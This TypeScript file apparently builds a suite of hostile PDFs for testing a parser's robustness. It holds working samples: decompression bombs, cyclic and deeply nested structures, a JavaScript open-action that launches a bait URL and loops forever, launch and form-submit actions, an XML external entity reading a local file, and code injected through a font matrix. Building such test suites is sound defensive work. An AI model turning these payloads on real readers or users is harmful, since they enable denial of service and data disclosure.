import { deflateSync } from 'node:zlib';

import { type HostileFamily, many, toDocument } from './hostile-document.ts';
import { mutate } from './hostile-text.ts';

/** A PDF of these objects, numbered from 1; the first is the catalog. */
function buildPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    offsets.push(at);
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    parts.push(part);
    at += part.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

function stream(data: string | Buffer, entries = ''): Buffer {
  const bytes = Buffer.from(data);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${entries} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** One page that says `content`. */
function onePage(content: Buffer): Buffer {
  return buildPdf([catalog, pages, page, content, font]);
}

const pdf = (name: string, bytes: Buffer | string) => toDocument(`pdf: ${name}`, bytes, 'application/pdf');

export const hostilePdf: HostileFamily = (random, bait) => {
  const honest = onePage(stream('BT /F1 12 Tf 72 720 Td (Hello) Tj ET'));
  const packed = (data: string | Buffer) => stream(deflateSync(data), '/Filter /FlateDecode');
  const twice = deflateSync(deflateSync(Buffer.alloc(100_000_000)));
  return [
    pdf('a bomb', onePage(packed(Buffer.alloc(100_000_000, ' ')))),
    pdf('a bomb in a bomb', onePage(stream(twice, '/Filter [/FlateDecode /FlateDecode]'))),
    pdf('text without end', onePage(packed(`BT /F1 12 Tf ${many('(Hello world) Tj ', 500_000)} ET`))),
    pdf('filters without end', onePage(stream('00', `/Filter [${many('/ASCIIHexDecode ', 20_000)}]`))),
    pdf('pages in pages', buildPdf([catalog, '<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>'])),
    pdf(
      'a parent that is a child',
      buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ),
    pdf(
      'a million pages of one',
      buildPdf([
        catalog,
        `<< /Type /Pages /Kids [${many('3 0 R ', 200_000)}] /Count 200000 >>`,
        page,
        stream(''),
        font,
      ]),
    ),
    pdf(
      'a claimed million of pages',
      buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>', page, stream(''), font]),
    ),
    pdf('negative count', buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count -1 >>', page, stream(''), font])),
    pdf(
      'a form that draws itself',
      buildPdf([
        catalog,
        pages,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
        stream('/X Do'),
        stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>'),
      ]),
    ),
    pdf(
      'deep arrays',
      buildPdf([catalog, pages, `<< /Type /Page /Parent 2 0 R /A ${many('[', 100_000)}${many(']', 100_000)} >>`]),
    ),
    pdf('deep dictionaries', buildPdf([catalog, pages, `<< /Type /Page /Parent 2 0 R /A ${many('<</B', 100_000)}`])),
    pdf(
      'a length that is a reference to itself',
      buildPdf([catalog, pages, page, '<< /Length 4 0 R >>\nstream\nx\nendstream', font]),
    ),
    pdf('a table that points at itself', buildPdf([catalog, pages, page, stream('x'), font], '/Prev 0')),
    pdf(
      'a script',
      buildPdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("' +
          bait.url +
          '/js"\\); while\\(true\\){}) >> >>',
        pages,
        page,
        stream('BT (x) Tj ET'),
        font,
      ]),
    ),
    pdf(
      'actions',
      buildPdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${bait.url}/uri) >> /AA << /WC << /S /Launch /F (${bait.file}) >> >> >>`,
        pages,
        page,
        stream('BT (x) Tj ET'),
        font,
      ]),
    ),
    pdf(
      'a form to submit',
      buildPdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (${bait.url}/submit) >> >> >>`,
        pages,
        page,
        stream(''),
        font,
      ]),
    ),
    pdf('a stream in a file', onePage(Buffer.from(`<< /Length 0 /F (${bait.file}) >>\nstream\n\nendstream`))),
    pdf(
      'a stream at an address',
      onePage(Buffer.from(`<< /Length 0 /F << /FS /URL /F (${bait.url}/stream) >> >>\nstream\n\nendstream`)),
    ),
    pdf(
      'XML forms with external entities',
      buildPdf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R >> >>',
        pages,
        page,
        stream(''),
        font,
        stream(`<!DOCTYPE x [<!ENTITY e SYSTEM "file://${bait.file}">]><xdp>&e;</xdp>`),
      ]),
    ),
    pdf(
      'a font with code in its matrix',
      buildPdf([
        catalog,
        pages,
        page,
        stream('BT /F1 12 Tf (x) Tj ET'),
        '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); process.exit\\(1\\)//)] /FontDescriptor 6 0 R >>',
        '<< /Type /FontDescriptor /FontFile 4 0 R >>',
      ]),
    ),
    pdf(
      'a character map without end',
      buildPdf([
        catalog,
        pages,
        page,
        stream('BT /F1 12 Tf (x) Tj ET'),
        '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R >>',
        packed(many('1 beginbfrange <0000> <ffff> <0041> endbfrange\n', 20_000)),
      ]),
    ),
    pdf('an image of four billion pixels', onePage(stream('BI /W 65535 /H 65535 /BPC 8 /CS /RGB ID xxxx EI'))),
    pdf(
      'a huge page',
      buildPdf([
        catalog,
        pages,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e308 1e308] /Contents 4 0 R >>',
        stream('BT (x) Tj ET'),
      ]),
    ),
    pdf(
      'encrypted in an unknown way',
      buildPdf([catalog, pages, page, stream('x'), font], '/Encrypt << /Filter /Unknown /V 99 >>'),
    ),
    pdf('only its head', '%PDF-1.7\n'),
    pdf(
      'head and noise',
      Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.from(Array.from({ length: 50_000 }, () => random.between(0, 255))),
      ]),
    ),
    pdf('cut', honest.subarray(0, honest.length / 2)),
    pdf('comments', `%PDF-1.7\n${many('%x\n', 300_000)}`),
    pdf('objects without end', `%PDF-1.7\n${many('1 0 obj<<>>endobj\n', 100_000)}`),
    ...Array.from({ length: 20 }, (_, index) =>
      pdf(`changed at random ${index}`, mutate(honest, random.between(1, 1_000_000))),
    ),
  ];
};
